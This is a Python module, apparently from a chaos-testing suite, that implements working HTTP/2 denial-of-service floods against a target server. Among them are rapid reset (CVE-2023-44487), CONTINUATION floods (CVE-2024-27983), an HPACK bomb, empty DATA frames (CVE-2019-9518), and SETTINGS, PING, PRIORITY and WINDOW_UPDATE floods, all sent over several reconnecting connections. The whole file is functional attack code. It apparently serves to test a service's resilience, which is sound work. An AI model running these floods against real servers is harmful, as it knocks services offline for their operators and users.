"""Floods of HTTP/2 frames that a client library would not send."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable, Iterator

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from chaos.hostile.malformed import call
from chaos.hostile.target import ORDERS, PRODUCTS, Answers, Attack, Target

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAMES_A_BURST = 200
PAUSE_S = 0.02
MAX_BURSTS = 200
Burst = Callable[[Target, int], Iterator[Frame]]


def flood(burst: Burst, *, connections: int = 4) -> Attack:
    """
    Return the attack of *connections* that send *burst* repeatedly and reconnect when they are closed.
    """

    async def attack(target: Target) -> Answers:
        end, answers = time.monotonic() + target.seconds, Answers()

        async def client() -> None:
            while time.monotonic() < end:
                answers[await _pour(target, burst, end)] += 1
                await asyncio.sleep(0.1)

        await asyncio.gather(*(client() for _ in range(connections)))
        return answers

    return attack


async def _pour(target: Target, burst: Burst, end: float) -> str:
    try:
        reader, writer = await asyncio.open_connection(*target.edge)
    except OSError:
        return "refused"
    try:
        writer.write(PREFACE + SettingsFrame(0).serialize())
        for number in range(MAX_BURSTS):
            writer.write(b"".join(frame.serialize() for frame in burst(target, number)))
            async with asyncio.timeout(2):
                await writer.drain()
            if time.monotonic() > end:
                return "held"
            if reader.at_eof():
                return "closed"
            await _drop(reader)
    except TimeoutError:
        return "not read"
    except OSError:
        return "closed"
    finally:
        writer.transport.abort()
    return "all sent"


async def _drop(reader: asyncio.StreamReader) -> None:
    try:
        async with asyncio.timeout(PAUSE_S):
            while await reader.read(65536):
                pass
    except TimeoutError:
        pass


def _head(target: Target, stream: int, path: str, *, ends: bool = True) -> HeadersFrame:
    # Literals only (RFC 7541, 6.2.2), so that the frames of a connection are independent of each other.
    headers = [(name, value, True) for name, value in call(path, b"", target.bearer).headers]
    flags = ["END_HEADERS", *(["END_STREAM"] if ends else [])]
    return HeadersFrame(stream, Encoder().encode(headers, huffman=False), flags=flags)


def rapid_resets(target: Target, number: int) -> Iterator[Frame]:
    """
    Send calls and reset them immediately (CVE-2023-44487, rapid reset).
    """
    for each in range(FRAMES_A_BURST):
        stream = 2 * (number * FRAMES_A_BURST + each) + 1
        yield _head(target, stream, ORDERS if each % 2 else PRODUCTS, ends=False)
        yield RstStreamFrame(stream, error_code=8)


def continuations(target: Target, number: int) -> Iterator[Frame]:
    """
    Send headers continued without end (CVE-2024-27983 and similar).
    """
    if number == 0:
        head = _head(target, 1, PRODUCTS)
        head.flags.discard("END_HEADERS")
        yield head
    for each in range(FRAMES_A_BURST):
        name = b"x-%d" % (number * FRAMES_A_BURST + each)
        yield ContinuationFrame(1, Encoder().encode([(name, b"a" * 200, True)], huffman=False))


def hpack_bomb(target: Target, number: int) -> Iterator[Frame]:
    """
    Send a header of 3.9 kB once, and reference it 4,000 times per call by one byte each (HPACK bomb).
    """
    encoder = Encoder()
    right = call(PRODUCTS).headers
    first = encoder.encode([*right, (b"x-bomb", b"a" * 3900)], huffman=False)
    again = encoder.encode([(b"x-bomb", b"a" * 3900)], huffman=False)
    plain = Encoder().encode([(name, value, True) for name, value in right], huffman=False)
    stream = 2 * number + 1
    data = first if number == 0 else plain + again * 4000
    yield HeadersFrame(stream, data, flags=["END_HEADERS", "END_STREAM"])


def settings(_: Target, number: int) -> Iterator[Frame]:
    """
    Send SETTINGS frames, each of which must be acknowledged.
    """
    for each in range(FRAMES_A_BURST):
        yield SettingsFrame(0, settings={4: 65535 - each % 2, 1: 4096 * (number % 2)})


def pings(_: Target, number: int) -> Iterator[Frame]:
    """
    Send PING frames, each of which must be answered.
    """
    for each in range(FRAMES_A_BURST):
        yield PingFrame(0, opaque_data=(number * FRAMES_A_BURST + each).to_bytes(8, "big"))


def priorities(_: Target, number: int) -> Iterator[Frame]:
    """
    Send PRIORITY frames for streams that do not exist.
    """
    for each in range(FRAMES_A_BURST):
        yield PriorityFrame(2 * (number * FRAMES_A_BURST + each) + 1, depends_on=0, stream_weight=each % 256)


def empty_data(target: Target, number: int) -> Iterator[Frame]:
    """
    Send empty DATA frames on a call that never ends (CVE-2019-9518).
    """
    if number == 0:
        yield _head(target, 1, PRODUCTS, ends=False)
    for _ in range(FRAMES_A_BURST):
        yield DataFrame(1, b"")


def windows(target: Target, number: int) -> Iterator[Frame]:
    """
    Send WINDOW_UPDATE frames of one byte.
    """
    if number == 0:
        yield _head(target, 1, PRODUCTS, ends=False)
    for each in range(FRAMES_A_BURST):
        yield WindowUpdateFrame(each % 2, window_increment=1)


def broken(target: Target, number: int) -> Iterator[Frame]:
    """
    Send frames that are invalid in every state of a connection.
    """
    yield _head(target, 2, PRODUCTS)
    yield DataFrame(2 * number + 1001, b"x")
    yield WindowUpdateFrame(0, window_increment=2**31 - 1)
    yield WindowUpdateFrame(0, window_increment=2**31 - 1)
